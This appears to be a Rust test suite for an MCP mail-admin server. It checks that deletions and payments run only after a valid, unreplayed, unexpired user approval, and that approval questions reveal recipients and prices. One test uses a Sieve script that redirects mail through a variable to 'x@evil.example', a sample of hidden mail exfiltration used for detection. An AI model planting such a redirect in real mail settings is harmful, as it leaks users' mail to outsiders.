//! The user's approval over MCP 2026-07-28 (input-required results with a sealed
//! `requestState`), over Streamable HTTP (in-process replicas in front of one wiremock API) and
//! over stdio (the built binary): accepted, declined, tampered, replayed, expired, presented for
//! other arguments or by another caller, and carried from one replica to another with a shared
//! key file; a payment is asked with its amount whatever TREKMAIL_HUMAN_CONFIRM says. Every
//! refusal is checked on the API's side too: nothing reached it.
#![allow(clippy::unwrap_used)]

mod support;

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use support::Opts;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::{Child, ChildStdin, ChildStdout, Command};
use tokio_util::sync::CancellationToken;
use trekmail_mcp::Catalog;
use trekmail_mcp::call::approvals::{Approvals, CallerSeal, StateKeys};
use trekmail_mcp::call::tokens::Tokens;
use trekmail_mcp::serve::Shared;
use trekmail_mcp::serve::http_server::{self, HttpServer};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const DELETE_7: &str = "/api/v1/domains/7";

/// The arguments of the guarded call every test approves.
fn delete_7() -> Value {
    json!({"domain_id": 7, "confirm_delete": true})
}

/// A key file with `keys`, one a line, in a fresh directory.
fn key_file(keys: &[&str]) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "trekmail-approval-{}-{}",
        std::process::id(),
        fastrand::u64(..)
    ));
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join("state-keys");
    std::fs::write(&p, format!("# current key first\n{}\n", keys.join("\n"))).unwrap();
    p
}

const KEY_A: &str = "approval-key-A-0123456789abcdef0123456789";
const KEY_B: &str = "approval-key-B-0123456789abcdef0123456789";

/// The API: DELETE /domains/7 answers 200, expected exactly `times` times in the test.
async fn api(times: u64) -> MockServer {
    let mock = MockServer::start().await;
    Mock::given(method("DELETE"))
        .and(path(DELETE_7))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": {"deleted": true}})))
        .expect(times)
        .mount(&mock)
        .await;
    mock
}

fn opts(key_file: Option<&PathBuf>, extra: &[(&'static str, &str)]) -> Opts {
    let mut o = Opts::all_gates();
    o.extra.push(("TREKMAIL_HUMAN_CONFIRM", "always".into()));
    o.extra.push(("TREKMAIL_SCOPE_AWARE", "false".into()));
    if let Some(k) = key_file {
        o.extra
            .push(("TREKMAIL_STATE_KEY_FILE", k.to_string_lossy().into_owned()));
    }
    for (k, v) in extra {
        o.extra.push((k, (*v).to_owned()));
    }
    o
}

// ---------------------------------------------------------------------------------------------
// HTTP

/// One replica: an in-process HTTP server in front of `mock`.
struct Replica {
    addr: SocketAddr,
    stop: CancellationToken,
    http: reqwest::Client,
}

impl Drop for Replica {
    fn drop(&mut self) {
        self.stop.cancel();
    }
}

async fn replica(mock: &MockServer, opts: Opts, ttl: Option<Duration>) -> Replica {
    let mut opts = opts;
    opts.extra
        .push(("TREKMAIL_HTTP_LISTEN", "127.0.0.1:0".into()));
    let mut config = support::config(&mock.uri(), &opts).unwrap();
    if let Some(ttl) = ttl {
        config.approval_ttl = ttl;
    }
    let settings = config.http.clone().unwrap();
    let (policy, _) = support::recording_policy();
    let shared = Shared::new(
        &config,
        Catalog::embedded().unwrap(),
        policy,
        http_server::source(settings.tokens),
    )
    .unwrap();
    let tokens = Tokens {
        ops: config.ops_token.clone(),
        message: config.message_token.clone(),
    };
    let server = Arc::new(HttpServer::new(&settings, shared, &tokens).unwrap());
    let listener = tokio::net::TcpListener::bind(settings.listen)
        .await
        .unwrap();
    let addr = listener.local_addr().unwrap();
    let stop = CancellationToken::new();
    let s = stop.clone();
    tokio::spawn(async move {
        server
            .serve(
                listener,
                async move { s.cancelled().await },
                Duration::from_secs(5),
            )
            .await;
    });
    let _ = rustls::crypto::ring::default_provider().install_default();
    Replica {
        addr,
        stop,
        http: reqwest::Client::new(),
    }
}

/// A 2026-07-28 request's metadata: no handshake, the client says who it is on every request.
fn meta(elicitation: bool) -> Value {
    let caps = if elicitation {
        json!({"elicitation": {"form": {}}})
    } else {
        json!({})
    };
    json!({
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": caps,
        "io.modelcontextprotocol/clientInfo": {"name": "approval-tests", "version": "1"}
    })
}

/// The `tools/call` params; with `retry`, the state and the user's `action`.
fn params(tool: &str, args: &Value, retry: Option<(&str, &str)>) -> Value {
    let mut p = json!({"name": tool, "arguments": args, "_meta": meta(true)});
    if let Some((state, action)) = retry {
        p["requestState"] = json!(state);
        p["inputResponses"] = json!({"approval": {"action": action, "content": {}}});
    }
    p
}

impl Replica {
    /// One `tools/call` over HTTP: the JSON-RPC answer.
    async fn call(&self, params: Value, headers: &[(&str, &str)]) -> Value {
        let name = params["name"].as_str().unwrap().to_owned();
        let msg = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params});
        let mut req = self
            .http
            .post(format!("http://{}/mcp", self.addr))
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .header("mcp-protocol-version", "2026-07-28")
            .header("mcp-method", "tools/call")
            .header("mcp-name", name)
            .body(msg.to_string());
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        let resp = req.send().await.unwrap();
        let status = resp.status().as_u16();
        let text = resp.text().await.unwrap();
        assert_eq!(status, 200, "{text}");
        serde_json::from_str(&text).unwrap_or_else(|_| panic!("not JSON: {text}"))
    }

    /// Calls `tool`, expects the question, and returns the sealed state.
    async fn ask(&self, tool: &str, args: &Value, headers: &[(&str, &str)]) -> String {
        let body = self.call(params(tool, args, None), headers).await;
        state_of(&body)
    }
}

/// The sealed state of an input-required answer (and checks its shape).
fn state_of(body: &Value) -> String {
    let r = &body["result"];
    assert_eq!(r["resultType"], "input_required", "{body}");
    let q = &r["inputRequests"]["approval"];
    assert_eq!(q["method"], "elicitation/create", "{body}");
    assert_eq!(q["params"]["requestedSchema"]["type"], "object", "{body}");
    r["requestState"].as_str().unwrap().to_owned()
}

fn text_of(body: &Value) -> String {
    body["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

fn refused(body: &Value, expected: &str) {
    assert_eq!(body["result"]["isError"], true, "{body}");
    assert!(text_of(body).contains(expected), "{body}");
    assert!(
        text_of(body).contains("Nothing was sent") || text_of(body).contains("nothing was sent"),
        "{body}"
    );
}

/// `state` with one character of its sealed body changed (a whole character, so every bit
/// it encodes is significant).
fn tampered(state: &str) -> String {
    let mut parts: Vec<String> = state.split('.').map(str::to_owned).collect();
    let body = parts.len() - 2;
    let mut chars: Vec<char> = parts[body].chars().collect();
    chars[4] = if chars[4] == 'A' { 'B' } else { 'A' };
    parts[body] = chars.into_iter().collect();
    parts.join(".")
}

#[tokio::test]
async fn http_the_question_names_the_call_and_an_accepted_answer_sends_it_once() {
    let mock = api(1).await;
    let r = replica(&mock, opts(None, &[]), None).await;
    let body = r
        .call(params("delete_domain", &delete_7(), None), &[])
        .await;
    let question = body["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .unwrap();
    assert!(
        question.contains("Delete Domain (delete_domain): DELETE /domains/7."),
        "{question}"
    );
    assert!(mock.received_requests().await.unwrap().is_empty());
    let state = state_of(&body);
    let done = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    assert_eq!(done["result"]["resultType"], "complete", "{done}");
    mock.verify().await;
}

#[tokio::test]
async fn http_declined_tampered_other_arguments_and_unanswered_send_nothing() {
    let mock = api(0).await;
    let r = replica(&mock, opts(None, &[]), None).await;
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let declined = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "decline"))),
            &[],
        )
        .await;
    refused(&declined, "The user declined delete_domain");

    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let forged = r
        .call(
            params(
                "delete_domain",
                &delete_7(),
                Some((&tampered(&state), "accept")),
            ),
            &[],
        )
        .await;
    refused(&forged, "is not valid for it");

    // Approved for domain 7, presented for domain 8 (or another tool).
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let other = json!({"domain_id": 8, "confirm_delete": true});
    let moved = r
        .call(
            params("delete_domain", &other, Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&moved, "is not valid for it");

    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let mut p = params("delete_domain", &delete_7(), None);
    p["requestState"] = json!(state);
    refused(&r.call(p, &[]).await, "without the user's answer");

    // Garbage in place of a state: the same refusal, no panic.
    for junk in ["", "rs2", "rs2.....", "💥", &"A".repeat(10_000)] {
        let b = r
            .call(
                params("delete_domain", &delete_7(), Some((junk, "accept"))),
                &[],
            )
            .await;
        refused(&b, "is not valid for it");
    }
    mock.verify().await;
}

#[tokio::test]
async fn http_an_approval_is_used_once() {
    let mock = api(1).await;
    let r = replica(&mock, opts(None, &[]), None).await;
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let first = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(first["result"]["isError"], false, "{first}");
    let again = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&again, "already used");
    mock.verify().await;
}

#[tokio::test]
async fn http_an_expired_approval_is_refused() {
    let mock = api(0).await;
    let r = replica(&mock, opts(None, &[]), Some(Duration::from_millis(1))).await;
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    tokio::time::sleep(Duration::from_millis(20)).await;
    let late = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&late, "expired");
    mock.verify().await;
}

#[tokio::test]
async fn http_two_replicas_with_one_key_file_take_each_others_approvals() {
    let mock = api(2).await;
    let keys = key_file(&[KEY_A]);
    let one = replica(&mock, opts(Some(&keys), &[]), None).await;
    let two = replica(&mock, opts(Some(&keys), &[]), None).await;
    let state = one.ask("delete_domain", &delete_7(), &[]).await;
    let done = two
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    // Rotation: a replica whose file puts a new key first still takes the old key's states,
    // and the old replica does not take the new key's.
    let rotated = replica(&mock, opts(Some(&key_file(&[KEY_B, KEY_A])), &[]), None).await;
    let state = one.ask("delete_domain", &delete_7(), &[]).await;
    let done = rotated
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    let state = rotated.ask("delete_domain", &delete_7(), &[]).await;
    let b = one
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&b, "is not valid for it");
    mock.verify().await;
}

#[tokio::test]
async fn http_without_a_shared_key_another_replica_refuses_the_approval() {
    let mock = api(0).await;
    let one = replica(&mock, opts(None, &[]), None).await;
    let two = replica(&mock, opts(None, &[]), None).await;
    let state = one.ask("delete_domain", &delete_7(), &[]).await;
    let b = two
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&b, "an approval must come back to the server that asked");
    // Replicas with different key files refuse each other's states too.
    let a = replica(&mock, opts(Some(&key_file(&[KEY_A])), &[]), None).await;
    let b2 = replica(&mock, opts(Some(&key_file(&[KEY_B])), &[]), None).await;
    let state = a.ask("delete_domain", &delete_7(), &[]).await;
    let r = b2
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&r, "is not valid for it");
    mock.verify().await;
}

#[tokio::test]
async fn http_caller_mode_binds_the_approval_to_the_caller() {
    let mock = api(1).await;
    let mut o = opts(None, &[("TREKMAIL_HTTP_TOKENS", "caller")]);
    o.ops = false;
    o.message = false;
    let r = replica(&mock, o, None).await;
    let alice = "Bearer tm_live_alice0123456789";
    let bob = "Bearer tm_live_bob0123456789";
    let state = r
        .ask("delete_domain", &delete_7(), &[("authorization", alice)])
        .await;
    let stolen = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[("authorization", bob)],
        )
        .await;
    refused(&stolen, "another caller");
    let hers = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[("authorization", alice)],
        )
        .await;
    assert_eq!(hers["result"]["isError"], false, "{hers}");
    let sent = mock.received_requests().await.unwrap();
    assert_eq!(
        sent[0].headers.get("authorization").unwrap(),
        "Bearer tm_live_alice0123456789"
    );
    mock.verify().await;
}

#[tokio::test]
async fn http_a_2026_client_without_elicitation_is_refused_under_always_and_not_asked_under_auto() {
    let mock = api(1).await;
    let always = replica(&mock, opts(None, &[]), None).await;
    let mut p = params("delete_domain", &delete_7(), None);
    p["_meta"] = meta(false);
    let b = always.call(p.clone(), &[]).await;
    refused(&b, "cannot ask the user");
    let auto = replica(
        &mock,
        opts(None, &[("TREKMAIL_HUMAN_CONFIRM", "auto")]),
        None,
    )
    .await;
    let b = auto.call(p, &[]).await;
    assert_eq!(b["result"]["isError"], false, "{b}");
    mock.verify().await;
}

// ---------------------------------------------------------------------------------------------
// stdio

struct Stdio2026 {
    _child: Child,
    stdin: ChildStdin,
    stdout: tokio::io::Lines<BufReader<ChildStdout>>,
    next: u64,
}

impl Stdio2026 {
    fn spawn(base: &str, env: &[(&str, String)]) -> Self {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_trekmail-mcp"));
        cmd.env_clear()
            .env("TREKMAIL_BASE_URL", base)
            .env("TREKMAIL_API_TOKEN", support::OPS_TOKEN)
            .env("TREKMAIL_LOG", "warn")
            .env("TREKMAIL_SCOPE_AWARE", "false")
            .env("TREKMAIL_ALLOW_DESTRUCTIVE", "true")
            .env("TREKMAIL_HUMAN_CONFIRM", "always")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .kill_on_drop(true);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let mut child = cmd.spawn().unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = BufReader::new(child.stdout.take().unwrap()).lines();
        Self {
            _child: child,
            stdin,
            stdout,
            next: 1,
        }
    }

    /// One `tools/call` (no initialize: 2026-07-28 requests carry their own metadata).
    async fn call(&mut self, params: Value) -> Value {
        let id = self.next;
        self.next += 1;
        let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params});
        self.stdin
            .write_all(format!("{msg}\n").as_bytes())
            .await
            .unwrap();
        self.stdin.flush().await.unwrap();
        let line = tokio::time::timeout(Duration::from_secs(20), self.stdout.next_line())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        let r: Value = serde_json::from_str(&line).unwrap();
        assert_eq!(r["id"], id, "{r}");
        r
    }

    async fn ask(&mut self, args: &Value) -> String {
        state_of(&self.call(params("delete_domain", args, None)).await)
    }
}

#[tokio::test]
async fn stdio_accepted_declined_tampered_replayed_and_other_arguments() {
    let mock = api(1).await;
    let mut s = Stdio2026::spawn(&mock.uri(), &[]);
    let state = s.ask(&delete_7()).await;
    refused(
        &s.call(params(
            "delete_domain",
            &delete_7(),
            Some((&state, "decline")),
        ))
        .await,
        "The user declined delete_domain",
    );
    let state = s.ask(&delete_7()).await;
    refused(
        &s.call(params(
            "delete_domain",
            &delete_7(),
            Some((&tampered(&state), "accept")),
        ))
        .await,
        "is not valid for it",
    );
    let other = json!({"domain_id": 8, "confirm_delete": true});
    refused(
        &s.call(params("delete_domain", &other, Some((&state, "accept"))))
            .await,
        "is not valid for it",
    );
    assert!(mock.received_requests().await.unwrap().is_empty());
    let ok = s
        .call(params(
            "delete_domain",
            &delete_7(),
            Some((&state, "accept")),
        ))
        .await;
    assert_eq!(ok["result"]["isError"], false, "{ok}");
    refused(
        &s.call(params(
            "delete_domain",
            &delete_7(),
            Some((&state, "accept")),
        ))
        .await,
        "already used",
    );
    mock.verify().await;
}

#[tokio::test]
async fn stdio_an_expired_approval_sealed_with_the_shared_key_is_refused_and_a_fresh_one_works() {
    let mock = api(1).await;
    let keys = key_file(&[KEY_A]);
    let mut s = Stdio2026::spawn(
        &mock.uri(),
        &[(
            "TREKMAIL_STATE_KEY_FILE",
            keys.to_string_lossy().into_owned(),
        )],
    );
    // Another process with the same key file seals states that live 1 ms.
    let config = support::config(&mock.uri(), &Opts::default()).unwrap();
    let caller = CallerSeal::of(&Tokens {
        ops: config.ops_token.clone(),
        message: None,
    });
    let short = Approvals::new(
        &StateKeys::parse(&std::fs::read_to_string(&keys).unwrap()).unwrap(),
        Duration::from_millis(1),
        None,
        false,
    )
    .unwrap();
    let args = delete_7();
    let expired = short.seal("delete_domain", args.as_object().unwrap(), &caller);
    tokio::time::sleep(Duration::from_millis(20)).await;
    refused(
        &s.call(params("delete_domain", &args, Some((&expired, "accept"))))
            .await,
        "expired",
    );
    // The same key with the server's lifetime: the binary takes it.
    let fresh = Approvals::new(
        &StateKeys::parse(&std::fs::read_to_string(&keys).unwrap()).unwrap(),
        Duration::from_secs(300),
        None,
        false,
    )
    .unwrap()
    .seal("delete_domain", args.as_object().unwrap(), &caller);
    let ok = s
        .call(params("delete_domain", &args, Some((&fresh, "accept"))))
        .await;
    assert_eq!(ok["result"]["isError"], false, "{ok}");
    mock.verify().await;
}

// ---------------------------------------------------------------------------------------------
// Replays across replicas: the state store

#[tokio::test]
async fn http_with_the_state_store_an_approval_used_on_one_replica_is_refused_on_another() {
    let Some(store) = support::redis().await else {
        eprintln!("redis-server is not installed: the store's replay check is not run here");
        return;
    };
    let mock = api(1).await;
    let keys = key_file(&[KEY_A]);
    let o = || opts(Some(&keys), &[("TREKMAIL_STATE_URL", store.url.as_str())]);
    let one = replica(&mock, o(), None).await;
    let two = replica(&mock, o(), None).await;
    let state = one.ask("delete_domain", &delete_7(), &[]).await;
    let done = two
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    let again = one
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&again, "already used");
    mock.verify().await;
}

#[tokio::test]
async fn http_a_store_that_cannot_answer_refuses_the_approval_unless_not_required() {
    // A loopback port nothing listens on.
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("redis://127.0.0.1:{}", l.local_addr().unwrap().port())
    };
    let mock = api(1).await;
    let store = |required: &'static str| {
        opts(
            None,
            &[
                ("TREKMAIL_STATE_URL", closed.as_str()),
                ("TREKMAIL_STATE_REQUIRED", required),
                ("TREKMAIL_TIMEOUT_MS", "400"),
            ],
        )
    };
    let strict = replica(&mock, store("true"), None).await;
    let state = strict.ask("delete_domain", &delete_7(), &[]).await;
    let b = strict
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&b, "could not be checked");
    // Not required: this process remembers the approval instead, and still refuses a replay.
    let lenient = replica(&mock, store("false"), None).await;
    let state = lenient.ask("delete_domain", &delete_7(), &[]).await;
    let ok = lenient
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(ok["result"]["isError"], false, "{ok}");
    let again = lenient
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&again, "already used");
    mock.verify().await;
}

// ---------------------------------------------------------------------------------------------
// The question

#[test]
fn the_question_says_where_mail_goes_from_the_maps_outbound_columns() {
    use trekmail_mcp::call::human;
    let catalog = Catalog::embedded().unwrap();
    let args = |v: Value| v.as_object().unwrap().clone();
    let q = human::question(
        catalog.get("send_message").unwrap(),
        &args(json!({
            "to": ["a@example.com"], "cc": ["b@example.org"], "bcc": ["c@example.net"],
            "subject": "Quarterly numbers", "body_text": "Hi", "confirm_send": true
        })),
    );
    assert!(
        q.contains("\nMail will go to: \"a@example.com\", \"b@example.org\", \"c@example.net\"\n"),
        "{q}"
    );
    // The sender's default Cc/Bcc, which the API adds unless told not to, is named too.
    let defaults = "\nMail also goes to the sender's default Cc/Bcc, if any (apply_default_recipients is not false).\n";
    assert!(q.contains(defaults), "{q}");
    let q = human::question(
        catalog.get("send_message").unwrap(),
        &args(json!({
            "to": ["a@example.com"], "subject": "s", "body_text": "Hi", "confirm_send": true,
            "apply_default_recipients": false
        })),
    );
    assert!(!q.contains("default Cc/Bcc"), "{q}");
    let q = human::question(
        catalog.get("set_forwarding").unwrap(),
        &args(json!({"mailbox_id": 12, "enabled": true, "targets": ["boss@other.example"]})),
    );
    assert!(q.contains("/mailboxes/12/"), "the mailbox: {q}");
    assert!(q.contains("Mail will go to: \"boss@other.example\""), "{q}");
    // A Sieve redirect through a variable cannot be read: the question says there is one more.
    let script = "require [\"variables\"]; set \"t\" \"x@evil.example\"; redirect \"${t}\";";
    let tool = catalog
        .tools()
        .iter()
        .find(|d| !d.entry.sieve_args.is_empty())
        .unwrap();
    let q = human::question(
        tool,
        &args(json!({tool.entry.sieve_args[0].clone(): script})),
    );
    assert!(
        q.contains("Mail may also go to targets that cannot be read plainly: 1"),
        "{q}"
    );
    // Nothing leaves the account: no such line.
    let q = human::question(
        catalog.get("delete_domain").unwrap(),
        &args(json!({"domain_id": 7, "confirm_delete": true})),
    );
    assert!(!q.contains("Mail will go to"), "{q}");
}

#[test]
fn a_bad_key_file_stops_the_server_naming_the_variable_never_the_key() {
    let secret = "too-short-secret-key";
    let file = key_file(&[KEY_A, secret]);
    let problems = support::config("https://x.example", &opts(Some(&file), &[]))
        .err()
        .unwrap()
        .join("\n");
    assert!(
        problems.contains("TREKMAIL_STATE_KEY_FILE") && problems.contains("line 3"),
        "{problems}"
    );
    assert!(
        !problems.contains(secret) && !problems.contains(KEY_A),
        "{problems}"
    );
    let missing = file.with_file_name("absent");
    let problems = support::config("https://x.example", &opts(Some(&missing), &[]))
        .err()
        .unwrap()
        .join("\n");
    assert!(
        problems.contains("TREKMAIL_STATE_KEY_FILE: cannot read"),
        "{problems}"
    );
}

// ---------------------------------------------------------------------------------------------
// Payments: asked whatever TREKMAIL_HUMAN_CONFIRM says, with the amount, bound to the price

const PAY_TOOL: &str = "agent_buy_verifier_credits";
const PAY_PATH: &str = "/api/v1/agent/verifier-credits/topup";
const CREDENTIAL: &str = "spt_live_SECRETcredential42";

/// The API: a price (402, `cents` EUR) for a request without a credential, and `paid` answers
/// 200 to requests that carry one.
async fn shop(mock: &MockServer, cents: u64, paid: u64) {
    mock.reset().await;
    Mock::given(method("POST"))
        .and(path(PAY_PATH))
        .and(wiremock::matchers::header_exists("payment-authorization"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": {"credits": 1000}})))
        .expect(paid)
        .mount(mock)
        .await;
    Mock::given(method("POST"))
        .and(path(PAY_PATH))
        .respond_with(ResponseTemplate::new(402).set_body_json(json!({"error": {
            "code": "payment_required", "message": "the bundle costs cents (EUR)",
            "amount": cents, "currency": "eur"}})))
        .mount(mock)
        .await;
}

fn buy() -> Value {
    json!({"quantity": 1000, "credential": CREDENTIAL, "confirm_payment": true})
}

#[tokio::test]
async fn http_a_payment_is_asked_with_its_amount_even_under_never_and_bound_to_the_price() {
    let mock = MockServer::start().await;
    shop(&mock, 900, 1).await;
    let r = replica(
        &mock,
        opts(None, &[("TREKMAIL_HUMAN_CONFIRM", "never")]),
        None,
    )
    .await;
    let body = r.call(params(PAY_TOOL, &buy(), None), &[]).await;
    let question = body["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .unwrap_or_else(|| panic!("no question: {body}"))
        .to_owned();
    assert!(question.contains("900 EUR"), "{question}");
    assert!(!question.contains(CREDENTIAL), "{question}");
    let state = state_of(&body);
    let done = r
        .call(params(PAY_TOOL, &buy(), Some((&state, "accept"))), &[])
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    mock.verify().await;

    // The price changes between the question and the answer: the approval no longer holds.
    shop(&mock, 900, 0).await;
    let state = r.ask(PAY_TOOL, &buy(), &[]).await;
    shop(&mock, 1200, 0).await;
    let b = r
        .call(params(PAY_TOOL, &buy(), Some((&state, "accept"))), &[])
        .await;
    assert_eq!(b["result"]["isError"], true, "{b}");
    assert!(!text_of(&b).contains(CREDENTIAL), "{b}");
    // Declined: nothing paid.
    shop(&mock, 900, 0).await;
    let state = r.ask(PAY_TOOL, &buy(), &[]).await;
    let b = r
        .call(params(PAY_TOOL, &buy(), Some((&state, "decline"))), &[])
        .await;
    refused(&b, "declined");
    mock.verify().await;
}

/// The audit trail of input-required approvals over HTTP: a question is no outcome (no line);
/// an accepted answer gives `attempted` and the outcome with `approval: input_required`; a
/// declined, replayed or tampered one gives one `refused` line with its rule. The same for a
/// payment, whose `attempted` line comes just before the request with the credential.
#[tokio::test]
async fn http_audit_lines_of_input_required_approvals() {
    let dir = std::env::temp_dir().join(format!("trekmail-approval-audit-{}", fastrand::u64(..)));
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("audit.log");
    let lines = || -> Vec<Value> {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let mock = api(1).await;
    let log_path = log.display().to_string();
    let r = replica(
        &mock,
        opts(None, &[("TREKMAIL_AUDIT_LOG", &log_path)]),
        None,
    )
    .await;
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    assert!(
        lines().is_empty(),
        "a question is no outcome: {:#?}",
        lines()
    );
    let done = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    assert_eq!(done["result"]["isError"], false, "{done}");
    let replayed = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "accept"))),
            &[],
        )
        .await;
    refused(&replayed, "already used");
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let declined = r
        .call(
            params("delete_domain", &delete_7(), Some((&state, "decline"))),
            &[],
        )
        .await;
    refused(&declined, "declined");
    let state = r.ask("delete_domain", &delete_7(), &[]).await;
    let forged = r
        .call(
            params(
                "delete_domain",
                &delete_7(),
                Some((&tampered(&state), "accept")),
            ),
            &[],
        )
        .await;
    refused(&forged, "is not valid for it");
    mock.verify().await;
    let sent = mock.received_requests().await.unwrap();

    // A payment: asked with its price, then paid.
    shop(&mock, 900, 1).await;
    let state = r.ask(PAY_TOOL, &buy(), &[]).await;
    let paid = r
        .call(params(PAY_TOOL, &buy(), Some((&state, "accept"))), &[])
        .await;
    assert_eq!(paid["result"]["isError"], false, "{paid}");
    let shopped = mock.received_requests().await.unwrap();
    mock.verify().await;
    shop(&mock, 900, 0).await;
    let state = r.ask(PAY_TOOL, &buy(), &[]).await;
    let b = r
        .call(params(PAY_TOOL, &buy(), Some((&state, "decline"))), &[])
        .await;
    refused(&b, "declined");
    mock.verify().await;

    let l = lines();
    let seen: Vec<(&str, &str, &Value, &Value)> = l
        .iter()
        .map(|x| {
            (
                x["tool"].as_str().unwrap(),
                x["outcome"].as_str().unwrap(),
                &x["rule"],
                &x["approval"],
            )
        })
        .collect();
    let asked = json!("input_required");
    let none = Value::Null;
    assert_eq!(
        seen,
        [
            ("delete_domain", "attempted", &none, &asked),
            ("delete_domain", "sent", &none, &asked),
            (
                "delete_domain",
                "refused",
                &json!("approval_replayed"),
                &none
            ),
            (
                "delete_domain",
                "refused",
                &json!("approval_declined"),
                &none
            ),
            (
                "delete_domain",
                "refused",
                &json!("approval_invalid"),
                &none
            ),
            (PAY_TOOL, "attempted", &none, &asked),
            (PAY_TOOL, "sent", &none, &asked),
            (PAY_TOOL, "refused", &json!("approval_declined"), &none),
        ],
        "{l:#?}"
    );
    assert_eq!(
        l[0]["request_id"],
        sent[0].headers["x-request-id"].to_str().unwrap()
    );
    // The price request (asked twice: with the question, then with the answer) and the payment.
    let paying: Vec<&wiremock::Request> = shopped
        .iter()
        .filter(|q| q.headers.get("payment-authorization").is_some())
        .collect();
    assert_eq!(shopped.len(), 3, "{shopped:?}");
    assert_eq!(paying.len(), 1);
    assert_eq!(
        l[5]["request_id"],
        paying[0].headers["x-request-id"].to_str().unwrap()
    );
    assert_eq!(l[5]["status"], Value::Null);
    assert_eq!(l[6]["status"], 200);
    let all = std::fs::read_to_string(&log).unwrap();
    assert!(!all.contains(CREDENTIAL), "{all}");
    std::fs::remove_dir_all(dir).unwrap();
}
